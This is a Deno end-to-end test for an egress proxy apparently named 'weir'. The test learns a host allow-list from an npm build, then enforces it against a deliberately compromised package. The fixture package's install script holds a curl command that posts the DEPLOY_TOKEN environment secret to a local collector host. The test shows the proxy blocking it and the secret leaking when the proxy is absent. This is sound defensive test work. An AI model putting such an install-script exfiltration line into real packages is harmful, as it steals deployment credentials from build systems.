/** A build whose policy is learned from one run, enforced in the next, and attacked by a package that it installs. */

import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { NpmRegistry } from "./npm_registry.ts";
import { denoEnvironment, type Output, removeFolder, run } from "./programs.ts";
import { type LogLine, Weir } from "./weir.ts";

const MAIN = new URL("../../main.ts", import.meta.url).pathname;
const WITH_FILES = [Deno.execPath(), "run", "--allow-net", "--allow-read", "--no-prompt", MAIN];

/** One of weir's other commands, in the build's folder. */
async function weir(folder: string, ...args: string[]): Promise<Output> {
  const [program, ...words] = WITH_FILES;
  return await run(program, [...words, ...args], { cwd: folder, env: denoEnvironment() });
}

/** A project that depends on the package `leaf`. */
class Project {
  constructor(readonly folder: string, readonly registry: string) {}

  /** Locks `leaf` at a version, as a developer does. */
  async depend(version: string, proxy: string): Promise<void> {
    const manifest = { name: "app", version: "1.0.0", private: true, dependencies: { leaf: version } };
    await Deno.mkdir(this.folder, { recursive: true });
    await Deno.writeTextFile(`${this.folder}/package.json`, JSON.stringify(manifest));
    await Deno.writeTextFile(`${this.folder}/.npmrc`, `registry=${this.registry}\n`);
    const { code, stderr } = await this.#npm(["install", "--package-lock-only"], proxy);
    assertEquals(code, 0, stderr);
  }

  /** `npm ci` in an environment that has a secret. */
  build(proxy: string): Promise<Output> {
    return this.#npm(["ci", "--foreground-scripts"], proxy);
  }

  async #npm(words: string[], proxy: string): Promise<Output> {
    const cache = await Deno.makeTempDir();
    try {
      return await run("npm", [
        ...[...words, "--no-audit", "--no-fund", "--no-update-notifier", "--fetch-retries=0"],
        ...["--cache", cache],
      ], {
        cwd: this.folder,
        env: { HOME: this.folder, http_proxy: proxy, https_proxy: proxy, DEPLOY_TOKEN: "hunter2" },
      });
    } finally {
      await removeFolder(cache);
    }
  }
}

async function writeLog(file: string, lines: readonly LogLine[]): Promise<void> {
  await Deno.writeTextFile(file, lines.map((line) => `${JSON.stringify(line)}\n`).join(""));
}

Deno.test("a build is learned, enforced, and stopped when it sends what it should not", async (test) => {
  const folder = await Deno.makeTempDir({ prefix: "weir-e2e-" });
  const stolen: string[] = [];
  const collector = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
    stolen.push(await request.text());
    return new Response("thanks\n");
  });
  const registry = await NpmRegistry.start(`${folder}/registry`);
  const project = new Project(`${folder}/project`, `http://registry.localhost:${registry.port}/`);
  const loot = `collector.localhost:${collector.addr.port}`;
  try {
    // a description that is kept would not name the new version
    await using open = await Weir.start(["--no-cache"]);
    await project.depend("1.0.0", open.url);

    await test.step("run once in report mode: nothing is refused, and all is written down", async () => {
      await using proxy = await Weir.start(["--mode", "report", "--default-action", "deny"]);
      const { code, stderr } = await project.build(proxy.url);
      assertEquals(code, 0, stderr);
      const lines = await proxy.logged("the build's exchanges", ({ verdict }) => verdict === "deny");
      assert(lines.every(({ enforced, rule, status }) => !enforced && rule === "default" && status === 200));
      await proxy.stop();
      await writeLog(`${folder}/build.log`, proxy.log);
    });

    await test.step("learn: the least list that covers it", async () => {
      const learned = await weir(folder, "learn", "build.log", "--tests");
      assertEquals(learned.code, 0, learned.stderr);
      assertEquals(learned.stdout.match(/^hosts = .*|^ports = .*|^default = .*/gm), [
        'default = "deny"',
        'hosts = ["registry.localhost"]',
        `ports = [${registry.port}]`,
      ]);
      await Deno.writeTextFile(`${folder}/weir.toml`, learned.stdout);
      const tested = await weir(folder, "test", "weir.toml");
      assertEquals([tested.code, tested.stdout], [0, "✓ weir.toml: 1 test passed\n"]);
      const replayed = await weir(folder, "replay", "build.log", "-c", "weir.toml");
      assertStringIncludes(replayed.stdout, "deny, now allow");
    });

    await test.step("enforce: the build passes, and a package that was taken over gets nothing out", async () => {
      await using proxy = await Weir.start(["-c", `${folder}/weir.toml`], { command: WITH_FILES });
      const { code, stderr } = await project.build(proxy.url);
      assertEquals(code, 0, stderr);

      // by a plain request, which shows why it is refused, and by a tunnel, of which curl shows the status
      await registry.publish("1.0.1", `curl -sS -d "$DEPLOY_TOKEN" http://${loot}/`);
      await project.depend("1.0.1", open.url);
      const plain = await project.build(proxy.url);
      assertStringIncludes(plain.stdout, "weir: 403 Forbidden: denied by default");
      await registry.publish("1.0.2", `curl -sS -p -d "$DEPLOY_TOKEN" http://${loot}/`);
      await project.depend("1.0.2", open.url);
      const tunnel = await project.build(proxy.url);
      assert(tunnel.code !== 0, "a script that fails ends npm ci");
      assertStringIncludes(tunnel.stderr, "CONNECT tunnel failed, response 403");

      const lines = await proxy.logged("what was denied", ({ verdict }) => verdict === "deny", 2);
      assertEquals(lines.map(({ kind, host, status }) => [kind, host, status]), [
        ["forward", "collector.localhost", 403],
        ["tunnel", "collector.localhost", 403],
      ]);
      assertEquals(stolen, []);
      await proxy.stop();
      proxy.assertExpected();
      await writeLog(`${folder}/attack.log`, proxy.log);
    });

    await test.step("without the policy, the same package gets it out", async () => {
      await project.build(open.url);
      assertEquals(stolen, ["hunter2"]);
    });

    await test.step("report: what was denied, by what, and what would allow it; the job fails", async () => {
      for (const form of [[], ["--markdown"]]) {
        const report = await weir(folder, "report", "attack.log", "--fail-on-denied", ...form);
        assertEquals(report.code, 1, report.stderr);
        assertStringIncludes(report.stdout, loot);
        assertStringIncludes(report.stdout, `--allow ${loot}`);
      }
    });
  } finally {
    await Promise.all([collector.shutdown(), registry[Symbol.asyncDispose]()]);
    await removeFolder(folder);
  }
});
